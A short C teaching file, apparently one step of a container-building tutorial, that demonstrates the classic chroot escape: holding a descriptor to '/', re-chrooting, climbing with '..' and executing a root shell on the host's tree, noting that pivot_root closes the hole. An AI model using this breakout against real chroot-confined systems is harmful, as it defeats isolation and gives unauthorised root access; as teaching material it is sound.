/*
 * escape_demo.c - walk out of a chroot, as its root
 *
 *	01_escape [COMMAND [ARG...]]	default: /bin/sh
 *
 * The kernel stops ".." at the root directory, and only there.  So we keep a
 * directory open that lies above a new root:
 *
 *	/		<- our descriptor; after chroot("bin") it is outside
 *	`-- bin		<- our root: ".." would stop here, but never comes by
 *
 * and climb from the descriptor, up to the top of the host's tree.
 *
 * Needs CAP_SYS_CHROOT.  In a box made by chroot_enter() it succeeds; behind
 * pivot_root(2), from step 02 on, there is nothing above to climb to.
 *
 * See chroot(2).
 */
#include <fcntl.h>
#include <unistd.h>

#include "must.h"

int
main(int argc, char **argv)
{
	char *shell[] = { "/bin/sh", NULL };
	char **command = argc > 1 ? argv + 1 : shell;
	int fd, i;

	fd = must(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), "open /");
	must(chroot("bin"), "chroot bin");
	must(fchdir(fd), "fchdir to the old root");
	for (i = 0; i < 64; i++) /* ".." of the topmost is itself */
		must(chdir(".."), "chdir ..");
	must(chroot("."), "chroot .");

	execvp(command[0], command);
	must(-1, "execvp %s", command[0]);
}
